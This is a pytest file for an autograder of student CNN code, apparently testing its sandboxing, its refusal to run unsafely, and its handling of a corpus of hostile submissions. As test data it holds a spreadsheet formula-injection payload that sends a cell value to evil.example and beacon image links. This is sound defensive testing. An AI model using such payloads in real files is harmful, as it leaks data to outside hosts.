"""cnnspec grade: every submission gets a valid results.json, the hostile corpus cannot break the
grader, cheat, or touch anything outside its worker's folder, student text reaches the instructor
as text, grading is refused where it would not be safe, and a seed-style notebook is graded
fairly, from an editable install and from a wheel."""
import hashlib
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import time
import venv
from pathlib import Path

import pandas as pd
import pytest

from cnnspec.grading import grade as grading
from cnnspec.grading.bench import build_hostile_corpus
from cnnspec.grading.examples import seed_style_notebook
from cnnspec.grading.grade import unique_names
from cnnspec.grading.report import csv_cell, md_literal, write
from cnnspec.grading.score import load_rubric, score
from cnnspec.sandbox import cgroups
from cnnspec.sandbox import launch as sandbox

PROJECT = Path(__file__).resolve().parents[2]
HOSTILE = Path(__file__).resolve().parent / "hostile"
SANDBOXED = sandbox.bwrap_status()[0] and os.environ.get("CNNSPEC_BWRAP") != "off"
# Where bubblewrap does not work the grader refuses; these runs then say they trust the code.
SANDBOX = () if SANDBOXED else (grading.TRUST,)
needs_bwrap = pytest.mark.skipif(not SANDBOXED, reason="no bubblewrap here: "
                                 f"{sandbox.bwrap_status()[1]}")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="workers of their own user need root")


# -- results, names, escaping ----------------------------------------------------------------------

def fake_tests():
    return [{"nodeid": f"t::test_conv2d_backward_{o}", "function": "conv2d_backward", "output": o,
             "category": "value", "clauses": ["CONV-3"]} for o in ("dX", "dW", "db")]


def test_submission_names_are_unique_folder_names():
    assert unique_names(["a/CNN from scratch.ipynb", "b/CNN from scratch.ipynb", "pkg/",
                         "x/my:cnn.py", "-=cmd.py", ".hidden"]) == [
        "CNN from scratch", "CNN from scratch-2", "pkg", "my_cnn", "_cmd", "hidden"]


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
    ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("  =1", "'  =1"), ("plain", "plain"), (3.5, 3.5)])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(cell, shown):
    assert csv_cell(cell) == shown


def test_student_text_in_the_report_is_literal_code():
    text = "![b](http://evil.example/b.png) <img src=x> `tick` a|b www.evil.example\nline 2"
    shown = md_literal(text)
    assert shown == "`` ![b](http://evil.example/b.png) <img src=x> `tick` a\\|b " \
                    "www.evil.example line 2 ``"
    assert md_literal("") == ""


def scored_row(name, problem):
    rubric = load_rubric()
    return dict(name=name, submission=f"subs/{name}.py", problem=problem, notes=[],
                timed_out=False, seconds=1.0, isolation="", resources={},
                scored=score(fake_tests(), {}, rubric))


def outside_code(text):
    """`text` without its inline code spans."""
    return re.sub(r"(`+) .*? \1", "", text)


def test_the_report_and_summary_keep_student_text_inert(tmp_path):
    problem = ('=HYPERLINK("http://evil.example/?x="&A1): ![beacon](http://evil.example/b.png) '
               '<img src="http://evil.example/i.png"> | cell')
    write([scored_row("-2+3", problem), scored_row("fine", None)], load_rubric(), tmp_path,
          seed=1, isolation="isolation: test")
    raw = (tmp_path / "summary.csv").read_text()
    assert "\n'-2+3,'subs/-2+3.py" not in raw and "'=HYPERLINK" in raw
    cells = pd.read_csv(tmp_path / "summary.csv", dtype=str, keep_default_na=False)
    assert all(not v.lstrip(" ").startswith(tuple("=+-@\t\r")) for v in cells.values.ravel())
    report = (tmp_path / "report.md").read_text()
    assert "evil.example" in report and "evil.example" not in outside_code(report)


# -- refusing to grade -----------------------------------------------------------------------------

def test_grading_is_refused_without_bubblewrap(tmp_path):
    (tmp_path / "sub.py").write_text("")
    env = dict(os.environ, PATH=str(tmp_path))        # no bwrap on the PATH
    _, result = run_grader(tmp_path / "sub.py", "--out", tmp_path / "grades", env=env, code=2)
    assert "refusing to grade: bubblewrap (bwrap) is not installed" in result.stderr
    assert grading.TRUST in result.stderr and not (tmp_path / "grades" / "sub").exists()


def test_grading_is_refused_when_the_probe_reaches_the_answers(monkeypatch, tmp_path):
    monkeypatch.setattr(grading.audit, "leaks", lambda **_: ["read /x/reference/cnn.py"])
    monkeypatch.setattr(grading, "bwrap_status", lambda: (True, "bubblewrap works"))
    args = grading.argparse.Namespace(trust=False, memory_mb=1024)
    with pytest.raises(grading.Refused, match=r"isolation probe .* found:\n  read /x/reference"):
        grading.preflight(args, hide=[])
    args.trust = True
    isolation, warnings = grading.preflight(args, hide=[])
    assert "NO SANDBOX" in isolation and "read /x/reference/cnn.py" in warnings[0]


def test_without_cgroups_the_grading_process_has_an_address_space_limit(monkeypatch, tmp_path):
    monkeypatch.setattr(grading.cgroups, "status", lambda: (False, "no cgroups in this test"))
    args = grading.argparse.Namespace(grader_memory_mb=1500, memory_mb=1024,
                                      submission_timeout=30)
    run = grading._Run(args)
    probe = "import resource; print(resource.getrlimit(resource.RLIMIT_AS)[0])"
    with open(tmp_path / "console.txt", "wb") as console:
        run.start([sys.executable, "-c", probe], tmp_path, dict(os.environ), console)
        run.wait_and_end()
    run.release()
    assert int((tmp_path / "console.txt").read_text()) == 1500 * 2**20
    assert run.returncode == 0 and run.resources == {"seconds": pytest.approx(run.seconds, abs=.1)}


@pytest.mark.slow
def test_the_probe_finds_the_answers_only_without_the_sandbox():
    if SANDBOXED:
        assert sandbox_leaks(use_bwrap=True) == []
    found = sandbox_leaks(use_bwrap=False)
    assert any("reference/cnn.py" in line for line in found), found


def sandbox_leaks(**options):
    from cnnspec.sandbox import audit
    return audit.leaks(seconds=60, **options)


# -- end to end ----------------------------------------------------------------------------------

def run_grader(*args, timeout=900, python=sys.executable, cwd=None, env=None, code=0):
    started = time.monotonic()
    result = subprocess.run([python, "-m", "cnnspec", "grade", *map(str, args)],
                            capture_output=True, text=True, timeout=timeout, cwd=cwd,
                            stdin=subprocess.DEVNULL, env=env)
    assert result.returncode == code, result.stdout + result.stderr
    return time.monotonic() - started, result


def load_results(out, name):
    """OUT/name/results.json (what the student sees: one entry per function) with its tests
    replaced by the per-test records of OUT/name/graded.json (name, tags, status, score,
    max_score, output = the message, extra_data.output), and their max_score."""
    doc = json.loads((out / name / "results.json").read_text())
    assert isinstance(doc["score"], (int, float)) and doc["tests"]
    scored = json.loads((out / name / "graded.json").read_text())["record"]["scored"]
    doc["tests"] = [{"name": t["nodeid"].split("/")[-1], "status": t["status"],
                     "tags": [t["function"]] if t.get("function") else [], "score": t["score"],
                     "max_score": t["max_score"], "output": t.get("message", ""),
                     "extra_data": {"output": t.get("output"), "clauses": t.get("clauses", [])}}
                    for t in scored]
    doc["max_score"] = round(sum(t["max_score"] for t in doc["tests"]), 2)
    assert doc["max_score"] > 0
    return doc


@pytest.mark.slow
def test_a_seed_style_notebook_gets_full_marks_and_one_wrong_function_costs_its_points(tmp_path):
    subs = tmp_path / "submissions"
    subs.mkdir()
    seed_style_notebook(subs / "right.ipynb")
    seed_style_notebook(subs / "wrong.ipynb", replace={"return 100.0 * float(": "return float("})
    out = tmp_path / "grades"
    run_grader(subs / "right.ipynb", subs / "wrong.ipynb", "--out", out, "--jobs", "2",
               "--seed", "11", *SANDBOX)
    right, wrong = load_results(out, "right"), load_results(out, "wrong")
    failed = [t["name"] for t in right["tests"] if t["status"] != "passed"]
    assert failed == [] and right["score"] == pytest.approx(right["max_score"])
    assert "read_csv('mnist_train.csv')" in right["output"] and "for epoch" in right["output"]
    rubric = load_rubric()
    lost = {tag for t in wrong["tests"] if t["status"] != "passed" for tag in t["tags"]}
    assert lost == {"test_accuracy"}
    missed = sum(t["max_score"] for t in wrong["tests"] if t["status"] != "passed")
    assert wrong["score"] == pytest.approx(right["score"] - missed, abs=0.02)
    assert missed > rubric["functions"]["test_accuracy"] / 2      # its correctness, not hygiene
    summary = pd.read_csv(out / "summary.csv")
    assert list(summary["submission"]) == ["right", "wrong"]
    assert (out / "report.md").exists() and (out / "scores.png").exists()
    assert (out / "clauses.png").exists() and "ACC-1" in (out / "report.md").read_text()


# The hostile corpus is graded on the tests of the functions it attacks, to keep this test fast.
HOSTILE_TESTS = "relu or conv2d_out_matches"
CHEATS = ["import_reference", "read_golden", "linked_file", "linked_package", "leaky_package"]
# The honest part of forge_log, patch_the_tests, survivor and grader_killer: zeros. Graded in the
# same run, it is what those may score at most, whatever the suite's tests are.
ZEROS = ("import numpy as np\n\n\ndef relu(X):\n    return np.zeros_like(X), None\n\n\n"
         "def relu_backward(dout, cache):\n    return np.zeros_like(dout)\n\n\n"
         "def conv2d(X, W, b, stride=1, padding=0):\n"
         "    return np.zeros((X.shape[0], W.shape[0], 1, 1), X.dtype), None\n")


def no_more_than_zeros(results):
    """Each zeros-answering cheat scores at most what plain zeros score, function by function."""
    twin = results["zeros_twin"]
    for name in ("forge_log", "patch_the_tests", "survivor", "grader_killer"):
        if name in results:
            for function in ("relu", "relu_backward", "conv2d"):
                assert points_of(results[name], [function]) <= \
                    points_of(twin, [function]) + 1e-6, (name, function)


def messages(doc):
    return doc["output"] + "\n".join(t["output"] for t in doc["tests"])


CORRECTNESS = {"value", "gradient", "network", "training"}    # not dtype, shape, mutation, errors


def value_points(out, name):
    """The scored tests of values (correctness categories) submission `name` passed."""
    categories, log = {}, out / name / "tests.jsonl"
    for line in (log.read_text().splitlines() if log.exists() else []):
        record = json.loads(line)
        if record.get("kind") == "collected":
            categories = {t["nodeid"].split("/")[-1]: t.get("category") for t in record["tests"]}
    doc = load_results(out, name)
    return [t["name"] for t in doc["tests"] if t["status"] == "passed" and t["max_score"] > 0
            and categories.get(t["name"]) in CORRECTNESS]


def points_of(doc, functions):
    return sum(t["score"] for t in doc["tests"] if set(t["tags"]) & set(functions))


def own_cgroups():
    """This process's cgroups that a grader made (none may be left after a run)."""
    folder = cgroups.Group.of_process().folders.get("memory")
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(cgroups.PREFIX)) \
        if folder and folder.is_dir() else []


@needs_bwrap
@pytest.mark.slow
def test_the_hostile_corpus_is_graded_with_clear_messages_and_changes_nothing(tmp_path):
    subs = tmp_path / "submissions"
    private = tmp_path / "instructor" / "private.txt"
    private.parent.mkdir()
    private.write_text("intact")
    submissions = build_hostile_corpus(subs, private=private)
    (subs / "zeros_twin.py").write_text(ZEROS)
    submissions.append(subs / "zeros_twin.py")
    canaries = [private, subs / "cnnspec-canary-subs.txt",
                tmp_path / "cnnspec-canary-instructor.txt",
                PROJECT / f"cnnspec-canary-{secrets.token_hex(4)}.txt"]
    for canary in canaries[1:]:
        canary.write_text("intact")
    scratch = tmp_path / "tmp"         # every temporary folder of the grader goes here
    scratch.mkdir()
    out = tmp_path / "grades"
    before = own_cgroups()
    try:
        seconds, _ = run_grader(*submissions, "--out", out, "--jobs", "2", "--seed", "3",
                                "--call-timeout", "2", "--memory-mb", "1024",
                                "--submission-timeout", "300", "--tests", HOSTILE_TESTS,
                                env=dict(os.environ, TMPDIR=str(scratch)))
        assert all(c.read_text() == "intact" for c in canaries)
    finally:
        canaries[-1].unlink(missing_ok=True)
    assert seconds < 900
    assert not list(tmp_path.rglob("conftest.py")) and not Path("/tmp/conftest.py").exists()
    assert not Path("/tmp/cnnspec-pickle-bomb-went-off").exists()
    assert list(scratch.iterdir()) == []                        # no folder, file or tmpfs left
    assert own_cgroups() == before

    names = [p.name if p.is_dir() else p.stem for p in submissions]
    results = {name: load_results(out, name) for name in names}
    summary = pd.read_csv(out / "summary.csv")
    assert sorted(summary["submission"]) == sorted(results)
    expected = {
        "loop_forever": "did not return within 2 s: killed",
        "exit_at_import": "exit code 3",
        "sys_exit_at_import": "SystemExit: this submission does not want to be graded",
        "exit_in_layer": "crashed the worker (exit code 7",
        "syntax_error": "SyntaxError",
        "missing_import": "No module named 'tensorflow_from_the_future'",
        "half_api": "conv2d is not defined in",
        "returns_lists": "list",
        "always_equal": "relu returned out as a submission.object",
        "import_reference": "No module named 'reference' (nor cnnspec.reference) is reachable",
        "linked_file": "is a symbolic link to",
        "linked_package": "linked_package/__init__.py is a symbolic link; links in a submission "
                          "are not followed",
        "leaky_package": "leaky_package/notes.txt is a symbolic link",
        "huge_header": "a header of 125829120 bytes is larger than the 4194304-byte limit",
        "memfd_hoard": "went over their 1024 MiB memory limit (memfd and tmpfs files included)",
    }
    for name, text in expected.items():
        assert text in messages(results[name]), name
    assert re.search(r"MemoryError|did not return within 2 s", messages(results["allocate_forever"]))
    assert re.search(r"memory limit|did not return within 2 s", messages(results["fork_hoard"]))
    assert "raised SystemExit(2)" in messages(results["exit_in_layer"])
    assert "the instructor's private notes" not in json.dumps(results["leaky_package"])
    assert results["half_api"]["score"] > 0 and results["flood_stdout"]["score"] > 0

    # A cheat earns no value points; the others earn at most what their honest part computes.
    for name in CHEATS + ["returns_nan", "returns_lists", "always_equal", "pickle_bomb",
                          "type_flood", "huge_header", "memfd_hoard", "fork_hoard",
                          "formula_injection"]:
        assert value_points(out, name) == [], name
    no_more_than_zeros(results)
    relu_points = points_of(results["disk_filler"], ["relu", "relu_backward"])
    assert results["disk_filler"]["score"] == pytest.approx(relu_points, abs=0.01) and \
        relu_points > 0                      # the score is rounded to 2 places, the tests to 4
    for honest_relu in ("huge_notebook", "fork_to_the_limit"):
        doc = results[honest_relu]
        assert doc["score"] <= relu_points + 0.01 and \
            doc["score"] == pytest.approx(points_of(doc, ["relu", "relu_backward"]), abs=0.01)

    # The grader's own process stayed small whatever came back; workers stayed in their limits.
    for name, doc in results.items():
        used = doc.get("extra_data", {}).get("resources", {})
        if cgroups.status()[0] and used.get("grader_peak_mb") is not None:
            assert used["grader_peak_mb"] < 1000, (name, used)
            assert used["worker_peak_mb"] <= 1024 + 1, (name, used)

    # What students wrote stays text for the instructor.
    raw = (out / "summary.csv").read_text()
    assert "'=HYPERLINK" in raw and "\n=" not in raw and ",=" not in raw
    report = (out / "report.md").read_text()
    assert "evil.example" in report and "evil.example" not in outside_code(report)


def digest(folder):
    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*.json"))}


@needs_root
@pytest.mark.slow
def test_without_the_sandbox_a_submission_still_cannot_forge_outlive_or_kill_the_grader(tmp_path):
    """--no-sandbox-i-trust-these-submissions: no bubblewrap, but each worker is still its own
    unprivileged user in its own cgroup, so the log, the results and the grader are out of its
    reach, and nothing of it outlives its grading."""
    subs = tmp_path / "submissions"
    subs.mkdir()
    for name in ("forge_log", "survivor", "grader_killer"):
        (subs / f"{name}.py").write_text((HOSTILE / f"{name}.py").read_text())
    (subs / "zeros_twin.py").write_text(ZEROS)
    seed_style_notebook(subs / "honest.ipynb")
    out = tmp_path / "grades"
    _, result = run_grader(*sorted(subs.iterdir()), "--out", out, "--jobs", "2", "--seed", "5",
                           "--call-timeout", "2", "--tests", HOSTILE_TESTS, grading.TRUST)
    assert "NO SANDBOX" in result.stdout and "WARNING" in result.stderr
    results = {name: load_results(out, name) for name in
               ("forge_log", "survivor", "grader_killer", "honest", "zeros_twin")}
    honest = results["honest"]
    assert honest["score"] == pytest.approx(honest["max_score"]) and honest["score"] > 0
    no_more_than_zeros(results)
    assert all(t["status"] != "passed" for t in results["forge_log"]["tests"]
               if t["extra_data"]["output"] == "out" and "relu_is" in t["name"])
    for name, doc in results.items():
        assert "runs as its own user" in doc["output"] or os.geteuid() != 0, name
    written = digest(out)
    time.sleep(3)                      # the survivor rewrites every 0.2 s while it lives
    assert digest(out) == written
    assert results["survivor"]["score"] < results["survivor"]["max_score"]


@pytest.mark.slow
def test_a_wheel_install_hides_the_reference_too(tmp_path):
    """Installed from a wheel, the reference, the suite and the golden vectors sit in the
    site-packages the worker imports NumPy from: the probe and the cheats must still find
    nothing."""
    source = tmp_path / "source"      # built from a copy: the checkout is left as it is
    shutil.copytree(PROJECT, source, ignore=shutil.ignore_patterns(
        ".git", "build", "dist", "*.egg-info", "__pycache__", ".*cache*"))
    wheels = tmp_path / "wheels"
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "-q", "-w", str(wheels),
                    str(source)], check=True, capture_output=True)
    env_dir = tmp_path / "venv"
    venv.EnvBuilder(system_site_packages=True, with_pip=False).create(env_dir)
    python = str(env_dir / "bin" / "python")
    subprocess.run([python, "-m", "pip", "install", "--no-deps", "--no-index", "-q",
                    *map(str, wheels.glob("cnnspec-*.whl"))], check=True, capture_output=True)
    empty = tmp_path / "empty"
    empty.mkdir()
    where = subprocess.run([python, "-c", "import cnnspec.reference.cnn as m; print(m.__file__)"],
                           check=True, capture_output=True, text=True, cwd=empty).stdout
    assert where.startswith(str(env_dir)), where                # the wheel, not the checkout
    subs = tmp_path / "submissions"
    subs.mkdir()
    for name in ("import_reference", "read_golden"):
        (subs / f"{name}.py").write_text((HOSTILE / f"{name}.py").read_text())
    (subs / "honest.py").write_text((PROJECT / "reference" / "cnn.py").read_text())
    out = tmp_path / "grades"
    _, result = run_grader(*sorted(subs.iterdir()), "--out", out, "--jobs", "2", "--seed", "2",
                           "--tests", HOSTILE_TESTS, *SANDBOX, python=python, cwd=empty)
    assert "refusing" not in result.stderr
    for name in ("import_reference", "read_golden"):
        assert load_results(out, name)["score"] == 0 or not SANDBOXED, name
    honest = load_results(out, "honest")
    assert honest["score"] == pytest.approx(honest["max_score"]) and honest["score"] > 0
